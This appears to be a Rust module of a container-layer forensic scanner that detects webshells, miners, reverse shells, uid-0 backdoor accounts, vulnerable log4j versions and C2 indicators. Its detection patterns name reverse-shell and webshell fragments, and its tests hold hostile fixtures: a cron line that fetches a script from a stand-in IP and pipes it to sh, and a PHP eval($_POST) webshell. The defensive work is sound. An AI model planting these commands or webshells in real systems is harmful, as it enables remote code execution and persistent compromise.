//! Content inspection while a layer streams: which files are candidates (by path, extension,
//! size and first bytes), one aho-corasick automaton over the signature strings scanned in
//! overlapping chunks, `/etc/passwd` uid-0 users, `log4j-core` versions from jar names and
//! the jar's own `pom.properties` (walked in-stream, never buffered whole), and the indicators
//! (URLs, endpoints, pools, wallets, SSH keys) in a bounded head of scripts, cron and
//! configuration files, keys and binaries (their printable strings).

mod jar;
pub(crate) mod script;

use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};

use crate::logscan::ioc::{self, IocRef, Source};
use jar::{log4j_version_from_name, JarWalker};

/// The signature strings the content rules refer to (matched ASCII case-insensitively).
/// Indices are stable: `rules.rs` names them through [`Sig`].
const SIGNATURES: &[&str] = &[
    "runtime.getruntime().exec", // 0
    "processbuilder",            // 1
    "defineclass",               // 2
    "cipher",                    // 3
    "aes",                       // 4
    "eval($_post",               // 5
    "eval($_request",            // 6
    "eval($_get",                // 7
    "assert($_",                 // 8
    "base64_decode",             // 9
    "eval(",                     // 10
    "assert(",                   // 11
    "system($_",                 // 12
    "shell_exec($_",             // 13
    "passthru($_",               // 14
    "eval(request",              // 15
    "execute(request",           // 16
    "process.start",             // 17
    "cmd.exe",                   // 18
    "assembly.load",             // 19
    "request",                   // 20
    "stratum+tcp://",            // 21
    "stratum+ssl://",            // 22
    "xmrig",                     // 23
    "cryptonight",               // 24
    "\"donate-level\"",          // 25
    "kdevtmpfsi",                // 26
    "@eval(",                    // 27
    "getparameter",              // 28
    "classloader",               // 29
    "/dev/tcp/",                 // 30
    "0>&1",                      // 31
    "sh -i",                     // 32
];

/// A run of printable bytes as long as `strings -n 6` takes.
static PRINTABLE: std::sync::LazyLock<regex::bytes::Regex> = std::sync::LazyLock::new(|| {
    regex::bytes::Regex::new(r"(?-u)[\t\x20-\x7e]{6,}").expect("valid built-in regex")
});

/// Bit set of matched [`SIGNATURES`].
pub(crate) type SigSet = u64;

/// Bit of signature `i`.
pub(crate) const fn sig(i: usize) -> SigSet {
    1 << i
}

/// Longest signature, minus one: the overlap kept between chunks.
const OVERLAP: usize = 32;
/// Web scripts: scanned up to this many bytes.
const WEB_LIMIT: u64 = 8 << 20;
/// Other candidates (binaries and scripts outside system directories): scanned up to this.
const OTHER_LIMIT: u64 = 64 << 20;
/// `/etc/passwd` captured up to this many bytes.
const PASSWD_LIMIT: usize = 1 << 20;
/// Jars walked up to this size.
const JAR_LIMIT: u64 = 512 << 20;
/// Text read for indicators: the first bytes of a text file, the printable strings of a
/// binary's first [`IOC_BINARY_SCAN`] bytes, up to this many bytes.
const IOC_TEXT: usize = 256 << 10;
/// Bytes of a binary read for its printable strings.
const IOC_BINARY_SCAN: u64 = 16 << 20;
/// Shortest printable run of a binary taken as a string (as `strings -n 6`).
const IOC_MIN_RUN: usize = 6;
/// Indicators kept per file.
const IOC_PER_FILE: usize = 64;

/// What the content of a file showed.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct ContentFacts {
    /// Matched signatures.
    pub sigs: SigSet,
    /// Users with uid 0 (for passwd files).
    pub uid0_users: Vec<String>,
    /// `log4j-core` versions found (own file name, nested jar names, pom.properties).
    pub log4j_core: Vec<String>,
    /// Indicators in the file's head (text) or strings (binaries), with their roles.
    pub iocs: Vec<IocRef>,
    /// `--yara` rules that matched the file.
    pub yara: Vec<crate::yara::YaraHit>,
}

impl ContentFacts {
    fn is_empty(&self) -> bool {
        self.sigs == 0
            && self.uid0_users.is_empty()
            && self.log4j_core.is_empty()
            && self.iocs.is_empty()
            && self.yara.is_empty()
    }
}

/// The text a file gives for indicators: its head, or a binary's printable strings.
struct IocText {
    binary: bool,
    /// Bytes of the file seen.
    seen: u64,
    buf: Vec<u8>,
    /// The printable run being read (binaries).
    run: Vec<u8>,
}

impl IocText {
    fn new(head: &[u8]) -> Self {
        let binary = Magic::of(head) == Magic::Elf || head[..head.len().min(512)].contains(&0);
        IocText { binary, seen: 0, buf: Vec::new(), run: Vec::new() }
    }

    fn full(&self) -> bool {
        self.buf.len() >= IOC_TEXT || (self.binary && self.seen >= IOC_BINARY_SCAN)
    }

    fn feed(&mut self, chunk: &[u8]) {
        if self.full() {
            return;
        }
        if !self.binary {
            let take = chunk.len().min(IOC_TEXT - self.buf.len());
            self.buf.extend_from_slice(&chunk[..take]);
            self.seen += take as u64;
            return;
        }
        let take = chunk.len().min((IOC_BINARY_SCAN - self.seen) as usize);
        self.seen += take as u64;
        let data = &chunk[..take];
        let printable = |b: &u8| *b == b'\t' || (0x20..0x7f).contains(b);
        let mut from = 0;
        if !self.run.is_empty() {
            // The run the last chunk ended in goes on with this chunk's printable prefix.
            let n = data.iter().position(|b| !printable(b)).unwrap_or(data.len());
            self.grow_run(&data[..n]);
            if n == data.len() {
                return;
            }
            self.end_run();
            from = n;
        }
        // The printable bytes this chunk ends with may go on in the next one.
        let tail = data[from..].iter().rposition(|b| !printable(b)).map_or(from, |p| from + p + 1);
        for m in PRINTABLE.find_iter(&data[from..tail]) {
            self.keep(m.as_bytes());
            if self.buf.len() >= IOC_TEXT {
                return;
            }
        }
        self.grow_run(&data[tail..]);
    }

    fn grow_run(&mut self, bytes: &[u8]) {
        let room = IOC_TEXT.saturating_sub(self.run.len());
        self.run.extend_from_slice(&bytes[..bytes.len().min(room)]);
    }

    /// Keep a printable run of a binary that may hold an indicator: one with a `:` (URLs,
    /// `ip:port`, pools, keys' types), a `/dev/tcp`-style path, or long enough for a wallet.
    fn keep(&mut self, run: &[u8]) {
        let worth = run.len() >= 26
            || memchr::memchr(b':', run).is_some()
            || memchr::memmem::find(run, b"/dev/").is_some()
            || memchr::memmem::find(run, b"/inet/").is_some();
        if run.len() >= IOC_MIN_RUN && worth {
            let room = IOC_TEXT.saturating_sub(self.buf.len());
            self.buf.extend_from_slice(&run[..run.len().min(room)]);
            self.buf.push(b'\n');
        }
    }

    fn end_run(&mut self) {
        let run = std::mem::take(&mut self.run);
        self.keep(&run);
    }

    fn finish(mut self) -> Vec<IocRef> {
        self.end_run();
        let text = String::from_utf8_lossy(&self.buf);
        let mut out = ioc::from_text(&text, if self.binary { Source::Binary } else { Source::Command });
        if out.len() > IOC_PER_FILE {
            // Keep the most telling: keys, wallets, pools and callbacks before mere mentions.
            out.sort_by_key(|r| crate::model::role::rank(r.role));
            out.truncate(IOC_PER_FILE);
            out.sort();
        }
        out
    }
}

/// First bytes of a regular file, classified.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Default)]
pub enum Magic {
    #[default]
    Other,
    Elf,
    Script,
}

impl Magic {
    /// Classify from the first bytes.
    pub(crate) fn of(head: &[u8]) -> Magic {
        if head.starts_with(b"\x7fELF") {
            Magic::Elf
        } else if head.starts_with(b"#!") {
            Magic::Script
        } else {
            Magic::Other
        }
    }
}

/// The shared automaton (build once, share by reference across layer workers), and the
/// limits of the bundle's layer walks (entries per tar, decompressed bytes per layer and
/// per bundle).
pub(crate) struct Inspector {
    /// None only if the constant signature list could not be compiled (never in practice).
    ac: Option<AhoCorasick>,
    pub budget: crate::limits::ByteBudget,
    /// `--yara` rules run over every regular file, when given.
    pub yara: Option<std::sync::Arc<crate::yara::YaraRules>>,
}

impl Default for Inspector {
    fn default() -> Self {
        Self::new()
    }
}

impl Inspector {
    /// Build the automaton over [`SIGNATURES`], with the default limits.
    pub(crate) fn new() -> Self {
        Self::with_limits(crate::limits::Limits::default())
    }

    /// [`Inspector::new`] for one bundle read under `limits`.
    pub(crate) fn with_limits(limits: crate::limits::Limits) -> Self {
        let ac = AhoCorasickBuilder::new()
            .ascii_case_insensitive(true)
            .match_kind(MatchKind::Standard)
            .build(SIGNATURES)
            .ok();
        Inspector { ac, budget: crate::limits::ByteBudget::new(limits), yara: None }
    }

    /// This inspector, also running `rules` over every regular file.
    pub(crate) fn with_yara(mut self, rules: Option<std::sync::Arc<crate::yara::YaraRules>>) -> Self {
        self.yara = rules;
        self
    }

    /// Start inspecting a regular file at `path` (normalized, relative) of `size` bytes whose
    /// first bytes are `head`. None when the file is not a candidate.
    pub(crate) fn start(&self, path: &[u8], size: u64, head: &[u8]) -> Option<FileScan<'_>> {
        let name = path.rsplit(|c| *c == b'/').next().unwrap_or(path);
        let ext = ext_of(name);
        let mut scan = FileScan {
            ac: self.ac.as_ref(),
            limit: 0,
            seen: 0,
            tail: Vec::new(),
            facts: ContentFacts::default(),
            passwd: None,
            jar: None,
            iocs: None,
        };
        if path == b"etc/passwd" {
            scan.passwd = Some(Vec::new());
        }
        if ext.eq_ignore_ascii_case(b"jar")
            || ext.eq_ignore_ascii_case(b"war")
            || ext.eq_ignore_ascii_case(b"ear")
        {
            if let Some(v) = log4j_version_from_name(name) {
                scan.facts.log4j_core.push(v);
            }
            if size <= JAR_LIMIT {
                scan.jar = Some(JarWalker::new());
            }
        }
        if is_web_script(ext) {
            scan.limit = WEB_LIMIT;
        } else if !in_system_dir(path) && (Magic::of(head) != Magic::Other || is_text_config(ext)) {
            scan.limit = OTHER_LIMIT;
        }
        let read_iocs =
            (scan.limit > 0 && !in_library_tree(path)) || is_persistence_path(path) || in_drop_zone(path);
        if read_iocs && !is_log_path(path) {
            scan.iocs = Some(IocText::new(head));
        }
        if scan.limit == 0
            && scan.passwd.is_none()
            && scan.jar.is_none()
            && scan.iocs.is_none()
            && scan.facts.is_empty()
        {
            return None;
        }
        Some(scan)
    }
}

/// Inspection of one file, fed chunk by chunk as the layer streams.
pub(crate) struct FileScan<'a> {
    ac: Option<&'a AhoCorasick>,
    limit: u64,
    seen: u64,
    tail: Vec<u8>,
    facts: ContentFacts,
    passwd: Option<Vec<u8>>,
    jar: Option<JarWalker>,
    iocs: Option<IocText>,
}

impl FileScan<'_> {
    /// Feed the next chunk of the file.
    pub(crate) fn feed(&mut self, chunk: &[u8]) {
        if let (true, Some(ac)) = (self.seen < self.limit, self.ac) {
            let take = chunk.len().min((self.limit - self.seen) as usize);
            let mut window = std::mem::take(&mut self.tail);
            window.extend_from_slice(&chunk[..take]);
            for m in ac.find_overlapping_iter(window.as_slice()) {
                self.facts.sigs |= sig(m.pattern().as_usize());
            }
            let keep = window.len().min(OVERLAP);
            window.drain(..window.len() - keep);
            self.tail = window;
        }
        self.seen += chunk.len() as u64;
        if let Some(p) = &mut self.passwd {
            let room = PASSWD_LIMIT.saturating_sub(p.len());
            p.extend_from_slice(&chunk[..chunk.len().min(room)]);
        }
        if let Some(j) = &mut self.jar {
            j.feed(chunk);
        }
        if let Some(t) = &mut self.iocs {
            t.feed(chunk);
        }
    }

    /// Finish; None when nothing of note was seen.
    pub(crate) fn finish(mut self) -> Option<Box<ContentFacts>> {
        if let Some(p) = self.passwd.take() {
            self.facts.uid0_users = uid0_users(&p);
        }
        if let Some(j) = self.jar.take() {
            for v in j.finish() {
                if !self.facts.log4j_core.contains(&v) {
                    self.facts.log4j_core.push(v);
                }
            }
        }
        if let Some(t) = self.iocs.take() {
            self.facts.iocs = t.finish();
        }
        if self.facts.is_empty() {
            None
        } else {
            Some(Box::new(self.facts))
        }
    }
}

fn ext_of(name: &[u8]) -> &[u8] {
    match name.iter().rposition(|c| *c == b'.') {
        Some(i) if i > 0 => &name[i + 1..],
        _ => b"",
    }
}

/// Server-side script extensions a webshell hides in.
pub(crate) fn is_web_script(ext: &[u8]) -> bool {
    const EXTS: &[&str] = &[
        "jsp", "jspx", "jspf", "php", "php3", "php4", "php5", "php7", "phtml", "phar", "pht", "asp", "aspx",
        "ashx", "asmx", "asa", "cer", "cshtml",
    ];
    EXTS.iter().any(|e| ext.eq_ignore_ascii_case(e.as_bytes()))
}

fn is_text_config(ext: &[u8]) -> bool {
    ["json", "conf", "cfg", "sh", "py", "pl", "txt"].iter().any(|e| ext.eq_ignore_ascii_case(e.as_bytes()))
}

/// Directories package managers own; their binaries are not scanned for miner strings.
fn in_system_dir(path: &[u8]) -> bool {
    const DIRS: &[&str] = &[
        "usr/lib/",
        "usr/lib64/",
        "usr/share/",
        "usr/include/",
        "usr/libexec/",
        "lib/",
        "lib64/",
        "lib32/",
        "usr/lib32/",
        "var/lib/dpkg/",
        "var/lib/apt/",
        "var/lib/rpm/",
        "var/cache/",
        "usr/src/",
    ];
    DIRS.iter().any(|d| path.starts_with(d.as_bytes()))
}

/// Where persistence lives (cron, SSH keys, init and systemd units, shell start-up files,
/// the preload list, sudoers): read for indicators whatever the file looks like.
fn is_persistence_path(path: &[u8]) -> bool {
    const PREFIXES: &[&str] = &[
        "etc/cron",
        "var/spool/cron/",
        "etc/systemd/",
        "lib/systemd/system/",
        "usr/lib/systemd/system/",
        "etc/init.d/",
        "etc/rc",
        "etc/profile",
        "etc/bash.bashrc",
        "etc/ld.so.preload",
        "etc/sudoers",
        "etc/supervisor",
        "etc/xinetd.d/",
        "etc/update-motd.d/",
    ];
    const NAMES: &[&str] = &[
        "authorized_keys",
        "authorized_keys2",
        ".bashrc",
        ".bash_profile",
        ".bash_login",
        ".profile",
        ".zshrc",
        ".bash_logout",
        "rc.local",
    ];
    let name = path.rsplit(|c| *c == b'/').next().unwrap_or(path);
    PREFIXES.iter().any(|p| path.starts_with(p.as_bytes())) || NAMES.iter().any(|n| name == n.as_bytes())
}

/// Where attackers drop files: temporary and shared-memory directories, home directories.
fn in_drop_zone(path: &[u8]) -> bool {
    ["tmp/", "var/tmp/", "dev/shm/", "root/", "home/", "run/", "var/run/"]
        .iter()
        .any(|d| path.starts_with(d.as_bytes()))
}

/// Logs (the log scan reads them, record by record).
fn is_log_path(path: &[u8]) -> bool {
    let name = path.rsplit(|c| *c == b'/').next().unwrap_or(path);
    path.starts_with(b"var/log/")
        || path.windows(6).any(|w| w == b"/logs/")
        || name.ends_with(b".log")
        || name.windows(5).any(|w| w == b".log.")
}

/// Libraries of language runtimes and packages (`site-packages`, `node_modules`...): their
/// files quote documentation URLs by the thousand, and are not read for indicators.
fn in_library_tree(path: &[u8]) -> bool {
    const PARTS: &[&str] =
        &["/site-packages/", "/dist-packages/", "/node_modules/", "/vendor/", "/go/pkg/mod/", "/gems/"];
    path.starts_with(b"usr/local/lib/")
        || path.starts_with(b"usr/local/share/")
        || PARTS.iter().any(|p| path.windows(p.len()).any(|w| w == p.as_bytes()))
}

/// Users with uid 0 in passwd content.
pub(crate) fn uid0_users(content: &[u8]) -> Vec<String> {
    let mut out = vec![];
    for line in content.split(|c| *c == b'\n') {
        let mut f = line.split(|c| *c == b':');
        let (Some(user), Some(_pw), Some(uid)) = (f.next(), f.next(), f.next()) else { continue };
        if uid.trim_ascii() == b"0" && !user.starts_with(b"#") {
            out.push(crate::model::display_bytes(user));
        }
    }
    out.sort();
    out.dedup();
    out
}

/// Whether a log4j-core version is exposed to the Log4Shell family (2.0-beta9 .. 2.16.x, minus
/// the 2.3.1+/2.12.2+ backports). Returns the CVE that applies.
pub(crate) fn log4j_vulnerability(version: &str) -> Option<&'static str> {
    let (core, pre) = match version.split_once('-') {
        Some((c, p)) => (c, Some(p.to_ascii_lowercase())),
        None => (version, None),
    };
    let nums: Vec<u32> = core.split('.').map(|p| p.parse().ok()).collect::<Option<_>>()?;
    let (major, minor, patch) =
        (*nums.first()?, nums.get(1).copied().unwrap_or(0), nums.get(2).copied().unwrap_or(0));
    if major != 2 {
        return None;
    }
    if minor == 0 {
        if let Some(p) = pre {
            // 2.0-alphaN and 2.0-beta1..8 predate the JNDI lookup; rc releases have it.
            if let Some(b) = p.strip_prefix("beta") {
                return (b.parse::<u32>().ok()? >= 9).then_some("CVE-2021-44228");
            }
            if p.starts_with("alpha") {
                return None;
            }
        }
        return Some("CVE-2021-44228");
    }
    match (minor, patch) {
        (3, p) if p >= 1 => None,
        (12, p) if p >= 2 => None,
        (15, _) => Some("CVE-2021-45046"),
        (16, _) => Some("CVE-2021-45105"),
        (m, _) if m < 15 => Some("CVE-2021-44228"),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn signatures_across_chunk_boundaries() {
        let ins = Inspector::new();
        let mut s = ins.start(b"var/www/html/x.php", 100, b"<?php").unwrap();
        s.feed(b"<?php @ev");
        s.feed(b"al($_POST['x']); ?>");
        let f = s.finish().unwrap();
        assert!(f.sigs & sig(5) != 0 && f.sigs & sig(27) != 0);
        assert!(ins.start(b"usr/lib/x86_64/libc.so", 10, b"\x7fELF").is_none());
        assert!(ins.start(b"tmp/kworker", 10, b"\x7fELF").is_some());
    }

    fn iocs_of(ins: &Inspector, path: &[u8], chunks: &[&[u8]]) -> Vec<String> {
        let size = chunks.iter().map(|c| c.len() as u64).sum();
        let Some(mut s) = ins.start(path, size, chunks[0]) else { return vec![] };
        for c in chunks {
            s.feed(c);
        }
        s.finish()
            .map(|f| f.iocs.iter().map(|r| format!("{}:{}:{}", r.kind, r.value, r.role)).collect())
            .unwrap_or_default()
    }

    #[test]
    fn indicators_in_heads_and_strings() {
        let ins = Inspector::new();
        // A cron file and an authorized_keys have no extension and no magic: read by path.
        let cron = iocs_of(
            &ins,
            b"etc/cron.d/php-sess-clean",
            &[b"*/15 * * * * root wget -q -O - http://203.0.113.66:8000/m.sh | sh\n"],
        );
        assert!(cron.contains(&"url:http://203.0.113.66:8000/m.sh:payload-server".to_string()), "{cron:?}");
        let key =
            b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHq4mJ0c7cW0rYqkZ9mXk3p1Vb8u2sTnQe5yL6fD0aRg kali@kali\n";
        let keys = iocs_of(&ins, b"root/.ssh/authorized_keys", &[key]);
        assert_eq!(keys, ["ssh-key:SHA256:RBjn6dqGBV5JQPdMD3IFdawQImBJoHZApwkSDzAcZXE kali@kali:ssh-key"]);
        // A binary's strings, the C2 split across two chunks; random bytes around it.
        let elf = iocs_of(
            &ins,
            b"tmp/.x/agent",
            &[b"\x7fELF\x02\x01\x00\x00agent\x00\x01203.0.11", b"3.66:8443\x00\x02\x03/proc/self/exe\x00"],
        );
        assert!(elf.contains(&"endpoint:203.0.113.66:8443:callback".to_string()), "{elf:?}");
        // Logs are the log scan's; libraries' documentation URLs are nobody's.
        assert!(iocs_of(&ins, b"var/log/apache2/access.log.txt", &[b"wget http://203.0.113.66/x"]).is_empty());
        let lib = b"#!/usr/bin/env python3\n# see http://198.51.100.4:8000/docs\n";
        assert!(iocs_of(&ins, b"usr/local/lib/python3.11/site-packages/x/y.py", &[lib]).is_empty());
        assert!(!iocs_of(&ins, b"opt/app/run.py", &[lib]).is_empty());
    }

    #[test]
    fn passwd_and_log4j_versions() {
        assert_eq!(
            uid0_users(b"root:x:0:0::/root:/bin/sh\nbackdoor:x:0:0::/:/bin/sh\nbin:x:1:1::/:\n"),
            ["backdoor", "root"]
        );
        for (v, want) in [
            ("2.14.1", Some("CVE-2021-44228")),
            ("2.0-beta9", Some("CVE-2021-44228")),
            ("2.0-beta8", None),
            ("2.0-rc1", Some("CVE-2021-44228")),
            ("2.15.0", Some("CVE-2021-45046")),
            ("2.16.0", Some("CVE-2021-45105")),
            ("2.17.0", None),
            ("2.12.2", None),
            ("2.3.1", None),
            ("1.2.17", None),
        ] {
            assert_eq!(log4j_vulnerability(v), want, "{v}");
        }
    }
}
